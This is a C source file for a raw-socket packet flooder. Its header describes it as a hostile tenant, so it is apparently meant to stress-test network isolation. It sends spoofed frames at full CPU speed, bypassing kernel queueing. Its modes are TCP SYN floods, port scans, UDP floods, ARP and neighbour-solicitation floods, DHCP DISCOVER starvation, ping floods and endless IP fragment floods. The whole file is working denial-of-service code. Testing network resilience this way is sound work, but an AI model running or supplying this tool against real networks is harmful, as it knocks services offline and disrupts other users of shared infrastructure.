/* SPDX-License-Identifier: Apache-2.0 */
/* A tenant who means no good: floods of frames as fast as a CPU gives them to an interface.
 *
 *	flood IFNAME KIND SECONDS SMAC DMAC SRC DST     (IPv4 addresses)
 *
 *	syn        TCP SYNs to one port from ever new ones
 *	scan       TCP SYNs to each port in turn
 *	udp        datagrams from and to ever new ports
 *	arp        requests for ever new addresses
 *	nd         neighbour solicitations for ever new addresses
 *	dhcp       DISCOVERs
 *	ping       echo requests
 *	fragments  first and second pieces of datagrams that never end, and ones without a first
 *
 * Frames are made once and differ in a few bytes; sendmmsg() past the queueing discipline. Prints how many were sent. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME_MAX 400

struct target {
	uint8_t smac[6], dmac[6];
	uint32_t src, dst; /* network order */
};

struct frame {
	uint8_t bytes[FRAME_MAX];
	unsigned int len;
};

static void put16(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static uint32_t sum(const uint8_t *p, unsigned int len, uint32_t from)
{
	for (unsigned int i = 0; i + 1 < len; i += 2)
		from += (uint32_t)p[i] << 8 | p[i + 1];
	return len & 1 ? from + ((uint32_t)p[len - 1] << 8) : from;
}

static uint16_t fold(uint32_t s)
{
	s = (s & 0xffff) + (s >> 16);
	return (uint16_t) ~((s & 0xffff) + (s >> 16));
}

static uint8_t *ethernet(struct frame *f, const struct target *t, uint16_t type)
{
	memcpy(f->bytes, t->dmac, 6);
	memcpy(f->bytes + 6, t->smac, 6);
	put16(f->bytes + 12, type);
	return f->bytes + 14;
}

static uint8_t *ipv4(struct frame *f, const struct target *t, uint8_t proto, unsigned int payload,
	uint16_t id, uint16_t fragment)
{
	uint8_t *ip = ethernet(f, t, ETHERTYPE_IP);

	memset(ip, 0, 20);
	ip[0] = 0x45;
	put16(ip + 2, 20 + payload);
	put16(ip + 4, id);
	put16(ip + 6, fragment);
	ip[8] = 64;
	ip[9] = proto;
	memcpy(ip + 12, &t->src, 4);
	memcpy(ip + 16, &t->dst, 4);
	put16(ip + 10, fold(sum(ip, 20, 0)));
	f->len = 14 + 20 + payload;
	return ip + 20;
}

/* TCP and UDP: with the pseudo header. */
static uint16_t l4_sum(const struct frame *f, uint8_t proto, unsigned int len)
{
	return fold(sum(f->bytes + 34, len, sum(f->bytes + 26, 8, proto + len)));
}

static void tcp_syn(struct frame *f, const struct target *t, uint16_t sport, uint16_t dport)
{
	uint8_t *tcp = ipv4(f, t, 6, 20, 0, 0x4000);

	memset(tcp, 0, 20);
	put16(tcp, sport);
	put16(tcp + 2, dport);
	put32(tcp + 4, (uint32_t)sport * 65537u);
	tcp[12] = 0x50;
	tcp[13] = 2;
	put16(tcp + 14, 64240);
	put16(tcp + 16, l4_sum(f, 6, 20));
}

static void udp(struct frame *f, const struct target *t, uint16_t sport, uint16_t dport,
	unsigned int payload)
{
	uint8_t *u = ipv4(f, t, 17, 8 + payload, 0, 0);

	memset(u, 0, 8 + payload);
	put16(u, sport);
	put16(u + 2, dport);
	put16(u + 4, 8 + payload); /* no checksum */
}

static void arp(struct frame *f, const struct target *t, uint32_t n)
{
	uint8_t *a = ethernet(f, t, ETHERTYPE_ARP);

	memset(f->bytes, 0xff, 6);
	memset(a, 0, 28);
	put16(a, 1);
	put16(a + 2, ETHERTYPE_IP);
	a[4] = 6;
	a[5] = 4;
	a[7] = 1;
	memcpy(a + 8, t->smac, 6);
	memcpy(a + 14, &t->src, 4);
	memcpy(a + 24, &t->dst, 4);
	a[27] = (uint8_t)n;
	f->len = 60;
}

/* From the link-local address of the MAC to the solicited-node group (RFC 4861 section 4.3). */
static void nd(struct frame *f, const struct target *t, uint32_t n)
{
	static const uint8_t group[16] = {0xff, 2, [11] = 1, 0xff};
	uint8_t *ip = ethernet(f, t, ETHERTYPE_IPV6), *icmp = ip + 40;

	memset(ip, 0, 72);
	ip[0] = 0x60;
	put16(ip + 4, 32);
	ip[6] = 58;
	ip[7] = 255;
	ip[8] = 0xfe;
	ip[9] = 0x80;
	memcpy(ip + 16, t->smac, 3);
	ip[16] ^= 2;
	ip[19] = 0xff;
	ip[20] = 0xfe;
	memcpy(ip + 21, t->smac + 3, 3);
	memcpy(ip + 24, group, 16);
	put16(ip + 38, n);
	put16(f->bytes, 0x3333);
	memcpy(f->bytes + 2, ip + 36, 4);
	icmp[0] = 135;
	icmp[8] = 0xfe;
	icmp[9] = 0x80;
	put32(icmp + 20, n);
	icmp[24] = 1;
	icmp[25] = 1;
	memcpy(icmp + 26, t->smac, 6);
	put16(icmp + 2, fold(sum(icmp, 32, sum(ip + 8, 32, 58 + 32))));
	f->len = 14 + 72;
}

static void dhcp(struct frame *f, const struct target *t, uint32_t n)
{
	struct target any = *t;
	uint8_t *d;

	any.src = 0;
	any.dst = 0xffffffff;
	memset(any.dmac, 0xff, 6);
	udp(f, &any, 68, 67, 300);
	d = f->bytes + 42;
	d[0] = d[1] = 1;
	d[2] = 6;
	put32(d + 4, n);
	memcpy(d + 28, t->smac, 6);
	put32(d + 236, 0x63825363);
	put32(d + 240, 0x350101ff); /* DISCOVER */
}

static void ping(struct frame *f, const struct target *t, uint32_t n)
{
	uint8_t *icmp = ipv4(f, t, 1, 64, 0, 0);

	memset(icmp, 0, 64);
	icmp[0] = 8;
	put16(icmp + 4, 77);
	put16(icmp + 6, n);
	put16(icmp + 2, fold(sum(icmp, 64, 0)));
}

static void fragment(struct frame *f, const struct target *t, uint32_t n)
{
	static const uint16_t pieces[] = {0x2000, 0x2000 | 8, 0x2000 | 16}; /* more follow */
	uint16_t piece = pieces[n % 3];
	uint8_t *u = ipv4(f, t, 17, 64, (uint16_t)(n % 3 < 2 ? n / 3 : n), piece);

	memset(u, 0, 64);
	put16(u, 1000 + (n / 3 & 0xff));
	put16(u + 2, 53);
	put16(u + 4, 4096);
}

static const struct kind {
	const char *name;
	void (*make)(struct frame *f, const struct target *t, uint32_t n);
} kinds[];

static void make_syn(struct frame *f, const struct target *t, uint32_t n)
{
	tcp_syn(f, t, (uint16_t)(1024 + n % 60000), (uint16_t)(80 + n / 60000));
}

static void make_scan(struct frame *f, const struct target *t, uint32_t n)
{
	tcp_syn(f, t, (uint16_t)(40000 + n / 65536), (uint16_t)n);
}

static void make_udp(struct frame *f, const struct target *t, uint32_t n)
{
	udp(f, t, (uint16_t)(n * 40503u), (uint16_t)(n / 65536 + 2000), 20);
}

static const struct kind kinds[] = {
	{"syn", make_syn},
	{"scan", make_scan},
	{"udp", make_udp},
	{"arp", arp},
	{"nd", nd},
	{"dhcp", dhcp},
	{"ping", ping},
	{"fragments", fragment},
};

static const struct kind *kind_named(const char *name)
{
	for (unsigned int i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (strcmp(kinds[i].name, name) == 0)
			return &kinds[i];
	return NULL;
}

static int open_interface(const char *name)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name)};
	int fd = socket(AF_PACKET, SOCK_RAW, 0), on = 1;

	if (fd < 0 || at.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)) < 0) {
		perror(name);
		return -1;
	}
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on));
	return fd;
}

static double seconds(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* What the device does not take is not sent again: the next frame is as good. */
static void flood(int fd, const struct kind *kind, const struct target *t, double how_long)
{
	static struct frame frames[BATCH];
	struct mmsghdr messages[BATCH] = {0};
	struct iovec parts[BATCH];
	double start = seconds(), now;
	uint64_t sent = 0;
	uint32_t n = 0;

	do {
		for (unsigned int i = 0; i < BATCH; i++) {
			kind->make(&frames[i], t, n++);
			parts[i] = (struct iovec){frames[i].bytes, frames[i].len};
			messages[i].msg_hdr.msg_iov = &parts[i];
			messages[i].msg_hdr.msg_iovlen = 1;
		}
		for (unsigned int done = 0; done < BATCH;) {
			int rc = sendmmsg(fd, messages + done, BATCH - done, MSG_DONTWAIT);

			if (rc > 0)
				sent += (unsigned int)rc;
			done += rc > 0 ? (unsigned int)rc : 1;
		}
		now = seconds();
	} while (now - start < how_long);
	printf("%llu\n", (unsigned long long)sent);
}

static bool mac_parse(const char *text, uint8_t mac[6])
{
	return sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
		       &mac[4], &mac[5]) == 6;
}

int main(int argc, char **argv)
{
	const struct kind *kind = argc == 8 ? kind_named(argv[2]) : NULL;
	struct target t;
	int fd;

	if (kind == NULL || !mac_parse(argv[4], t.smac) || !mac_parse(argv[5], t.dmac) ||
		inet_pton(AF_INET, argv[6], &t.src) != 1 ||
		inet_pton(AF_INET, argv[7], &t.dst) != 1) {
		fprintf(stderr, "usage: flood IFNAME KIND SECONDS SMAC DMAC SRC DST\n");
		return 2;
	}
	fd = open_interface(argv[1]);
	if (fd < 0)
		return 1;
	flood(fd, kind, &t, atof(argv[3]));
	close(fd);
	return 0;
}
